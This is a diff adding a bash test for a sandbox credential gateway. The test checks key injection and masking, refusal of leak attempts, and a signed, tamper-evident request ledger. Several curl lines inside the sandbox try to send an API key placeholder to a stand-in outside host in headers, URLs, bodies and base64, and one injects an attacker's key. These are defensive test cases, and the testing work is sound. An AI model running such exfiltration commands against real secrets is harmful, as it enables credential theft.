@@ -1,0 +1,158 @@
+#!/bin/bash
+# Credentials that a sandbox never holds: a program uses a placeholder, the gateway puts the key in for what the key is for, and masks it in what
+# comes back; the ledger has every step, and can be verified without the server. The host outside is a server of ours that echoes what it gets.
+# Items of the list of attacks: 54, 55, 56, 59, 72.
+# shellcheck source=tests/scenarios/tap.sh
+. "${SOURCE_ROOT:?}/tests/scenarios/tap.sh"
+# shellcheck source=tests/scenarios/serve.sh
+. "$SOURCE_ROOT/tests/scenarios/serve.sh"
+command -v node >/dev/null || skip_all 'needs node'
+[ "$(id -u)" = 0 ] || skip_all 'needs root: a name of the machine for the server outside'
+
+if [ -z "${SECRETS_INSIDE:-}" ]; then
+	SECRETS_INSIDE=1 exec unshare --mount --propagation private "$0"
+fi
+address=127.62.$((RANDOM % 250 + 1)).$((RANDOM % 250 + 1))
+printf '127.0.0.1 localhost\n%s api.outside.test other.outside.test\n' "$address" >"$WORK/hosts"
+mount --bind "$WORK/hosts" /etc/hosts
+at_end umount /etc/hosts
+export ASSAY_REACH=$address
+
+cat >"$WORK/outside.mjs" <<'SERVER'
+import {createServer} from 'node:http';
+import {gzipSync} from 'node:zlib';
+import {appendFileSync} from 'node:fs';
+const [address, log] = process.argv.slice(2);
+createServer((request, response) => {
+	const body = [];
+	request.on('data', (piece) => body.push(piece));
+	request.on('end', () => {
+		const key = request.headers['x-api-key'] ?? request.headers.authorization ?? '';
+		appendFileSync(log, `${request.method} ${request.headers.host}${request.url} key=${key} coding=${request.headers['accept-encoding']} ${Buffer.concat(body)}\n`);
+		const echo = JSON.stringify({key, base64: Buffer.from(`user:${key}`).toString('base64'), hex: Buffer.from(key).toString('hex')});
+		response.setHeader('x-echo', key);
+		response.setHeader('location', `http://api.outside.test/?k=${encodeURIComponent(key)}`);
+		if (request.url === '/v1/gzip') {
+			response.setHeader('content-encoding', 'gzip');
+			return void response.end(gzipSync(echo));
+		}
+		if (request.url !== '/v1/pieces')
+			return void response.end(echo);
+		const pieces = echo.match(/.{1,5}/g);
+		const next = () => pieces.length ? (response.write(pieces.shift()), setTimeout(next, 2)) : response.end();
+		next();
+	});
+}).listen(80, address, () => console.log('listens'));
+SERVER
+: >"$WORK/outside.log"
+node "$WORK/outside.mjs" "$address" "$WORK/outside.log" >"$WORK/outside.out" 2>&1 &
+outside=$!
+at_end "kill $outside 2>/dev/null"
+outside_listens() { grep -q listens "$WORK/outside.out"; }
+until_true 20 outside_listens || { cat "$WORK/outside.out"; skip_all 'port 80 cannot be had'; }
+
+mkdir "$WORK/app"
+cat >"$WORK/app/assay.yaml" <<'BLUEPRINT'
+version: 1
+name: keys
+services:
+  web: {run: "sleep 100000"}
+secrets:
+  API_KEY: api
+  GIT_TOKEN: git
+egress:
+  rules:
+    - {host: "*.outside.test", action: allow}
+BLUEPRINT
+repository "$WORK/app"
+cd "$WORK/app" || exit 1
+serve_start || { tap_line 'not ok' 'the server starts'; sed 's/^/# /' "$WORK/serve.log"; exit 1; }
+
+key=kx-REALREALREALREALREALREALREALREAL-7f3a
+token=ghp_realrealrealrealrealrealrealreal1234
+like 'an environment without its credentials does not start' "$("$ASSAY" env up --name early 2>&1)" 'secrets.API_KEY.*there is no credential .api.'
+like 'a value with a line end is refused' "$(printf 'one\ntwo-two-two' | "$ASSAY" secret set api --for 'POST http://api.outside.test/v1/*' --in header:x-api-key 2>&1)" 'line end'
+like 'so is plain http to the world' "$(printf %s "$key" | "$ASSAY" secret set api --for 'POST http://example.com/*' --in header:x-api-key 2>&1)" 'plain http'
+printf %s "$key" | "$ASSAY" secret set api --for 'POST http://api.outside.test/v1/*' --in header:x-api-key >/dev/null
+printf '%s\n' "$token" | "$ASSAY" secret set git --for '* http://other.outside.test/app.git/*' --in basic >/dev/null
+like 'what they are for is listed' "$("$ASSAY" secret list)" 'api +POST http://api.outside.test/v1/\* +header:x-api-key'
+is 'what they are is not on the disk' "$(grep -rlaF --exclude-dir=pool --exclude='pool.img' -e "$key" -e "$token" "$ASSAY_STATE" | wc -l)" 0
+
+"$ASSAY" env up --name keys >"$WORK/up.log" 2>&1 || { tap_line 'not ok' 'an environment comes up'; sed 's/^/# /' "$WORK/up.log"; exit 1; }
+env=$(api GET /environments | jq -r '.items[] | select(.name == "keys") | .id')
+inside() { "$ASSAY" env exec "$env" -- sh -c "$1" 2>&1; }
+held=$(inside 'printf %s "$API_KEY"')
+like 'a sandbox sees a placeholder' "$held" '^xAssay0|xAssay0'
+is 'as long as the key' "${#held}" "${#key}"
+is 'and the key nowhere in its environment and files' "$(inside "env; cat /proc/*/environ /etc/hosts 2>/dev/null; true" | grep -acF "$key")" 0
+
+curl='curl --silent --max-time 20 --write-out " %{http_code}"'
+answer=$(inside "$curl -i -d hello -H \"x-api-key: \$API_KEY\" http://api.outside.test/v1/messages")
+like 'the key reaches its host' "$(tail -n 1 "$WORK/outside.log")" "POST api.outside.test/v1/messages key=$key coding=identity hello"
+is 'item 56: an echo of it comes back masked, in fields and body' "$(grep -cF -e "$key" -e "$(printf %s "$key" | od -An -tx1 | tr -d ' \n')" <<<"$answer")" 0
+like 'as the placeholder' "$answer" "\"key\":\"$held\""
+like 'in fields, too' "$answer" "[Xx]-[Ee]cho: $held"
+like 'nor in base64' "$answer" '"base64":"[A-Za-z0-9+/]*\*\*\*\*'
+answer=$(inside "$curl -d x -H \"x-api-key: \$API_KEY\" http://api.outside.test/v1/pieces")
+like 'nor in pieces' "$answer" "\"key\":\"$held\".* 200\$"
+like 'what cannot be read is not passed on' "$(inside "$curl -d x -H \"x-api-key: \$API_KEY\" http://api.outside.test/v1/gzip")" 'broker:unreadable-answer.* 502$'
+
+: >"$WORK/outside.log"
+refused() { like "$1" "$(inside "$2")" "$3.* 403\$"; }
+refused 'item 54: to another host it is a leak attempt' "$curl -d x -H \"x-api-key: \$API_KEY\" http://other.outside.test/v1/x" 'broker:stray-placeholder'
+refused 'in another field' "$curl -d x -H \"x-other: \$API_KEY\" http://api.outside.test/v1/x" 'broker:stray-placeholder'
+refused 'in a URL' "$curl \"http://other.outside.test/?k=\$API_KEY\"" 'broker:stray-placeholder'
+refused 'in a body' "$curl -d \"k=\$API_KEY\" http://other.outside.test/v1/x" 'broker:stray-placeholder'
+refused 'item 55: in base64' "$curl -u \"x:\$API_KEY\" http://other.outside.test/v1/x" 'broker:stray-placeholder'
+refused 'for a path that it is not for' "$curl -d x -H \"x-api-key: \$API_KEY\" http://api.outside.test/v2/x" 'broker:stray-placeholder'
+refused 'item 59: another key does not reach its host' "$curl -d x -H 'x-api-key: of-the-attacker' http://api.outside.test/v1/files" 'broker:foreign-credential'
+is 'nothing of all that came out' "$(wc -l <"$WORK/outside.log")" 0
+
+inside "$curl -u \"git:\$GIT_TOKEN\" http://other.outside.test/app.git/info/refs" >/dev/null
+like 'basic authentication gets its token' "$(tail -n 1 "$WORK/outside.log")" "key=Basic $(printf 'git:%s' "$token" | base64 -w0)"
+
+printf %s "$key-new-new" | "$ASSAY" secret set api --for 'POST http://api.outside.test/v1/*' --in header:x-api-key >/dev/null
+inside "$curl -d x -H \"x-api-key: \$API_KEY\" http://api.outside.test/v1/y" >/dev/null
+like 'a key that was changed is the new one, at once' "$(tail -n 1 "$WORK/outside.log")" "key=$key-new-new "
+"$ASSAY" secret rm git >/dev/null
+: >"$WORK/outside.log"
+refused 'one that was removed is dead, at once' "$curl -u \"git:\$GIT_TOKEN\" http://other.outside.test/app.git/info/refs" 'broker:not-released'
+
+# The ledger.
+rows() { "$ASSAY" ledger search --env "$env" --json "$@"; }
+is 'each request has two rows, and its release' "$(rows --kind intent | jq length) $(rows --kind outcome | jq length)" "$(rows --kind outcome | jq length) $(rows --kind intent | jq length)"
+is 'releases are rows' "$(rows --kind release | jq -r '[.[].detail] | unique | join(" ")')" 'api git'
+id=$(rows --rule 'broker:*' | jq -r '.[0].request')
+like 'what a refusal names is found' "$("$ASSAY" ledger show "$id")" 'verdict +q[0-9a-f]+ +.*broker:'
+is 'JSON lines are exported' "$("$ASSAY" ledger export --env "$env" | jq -s 'length > 20')" true
+like 'and CEF' "$("$ASSAY" ledger export --format cef --rule 'broker:*' | head -n 1)" '^CEF:0\|Assay\|assay\|'
+is 'it never holds a secret' "$("$ASSAY" ledger export | grep -cF -e "$key" -e "$token")" 0
+is 'nor does any file of the server' "$(grep -rlaF --exclude-dir=pool --exclude='pool.img' -e "$key" -e "$token" "$ASSAY_STATE" "$WORK/serve.log" | wc -l)" 0
+signed() { [ "$("$ASSAY" ledger heads | wc -l)" = 2 ]; }
+until_true 20 signed
+ok 'it verifies' "$ASSAY" ledger verify
+"$ASSAY" record key >"$WORK/key.pem"
+"$ASSAY" ledger heads >"$WORK/heads"
+verify=$(dirname "$ASSAY")/assay-ledger-verify
+ok 'without the server, too' "$verify" --key "$WORK/key.pem" --heads "$WORK/heads" "$ASSAY_STATE/ledger"
+cp -r "$ASSAY_STATE/ledger" "$WORK/changed"
+printf X | dd of="$WORK/changed/gateway/0000000001.seg" bs=1 seek=700 conv=notrunc status=none
+like 'item 72: a changed byte is named' "$("$verify" --key "$WORK/key.pem" "$WORK/changed")" 'BREAK: 0000000001.seg'
+
+# After kill -9 of the gateway its rows are there, and another goes on.
+gateway=$(for child in $(below "$serve_pid"); do grep -qz '^gateway$' "/proc/$child/cmdline" && echo "$child"; done | head -n 1)
+inside "$curl http://other.outside.test/last" >/dev/null
+kill -9 "$gateway"
+again() { inside "$curl http://other.outside.test/again" | grep -q ' 200$'; }
+until_true 30 again
+is 'item 72: kill -9 loses no row' "$(rows | jq '[.[] | select(.path == "/last") | .kind] | sort | join(" ")')" '"intent outcome"'
+ok 'and the chain holds' "$ASSAY" ledger verify
+
+"$ASSAY" kill "$env" --because test >/dev/null
+ok 'undone' "$ASSAY" kill "$env" --undo
+like 'what was killed has no credentials' "$(inside "$curl -d x -H \"x-api-key: \$API_KEY\" http://api.outside.test/v1/z")" ' (403|000)$'
+"$ASSAY" env down "$env" >/dev/null
+serve_stop
+ok 'at the end it verifies' "$verify" --quiet --key "$WORK/key.pem" --heads "$WORK/heads" "$ASSAY_STATE/ledger"
+
+done_testing
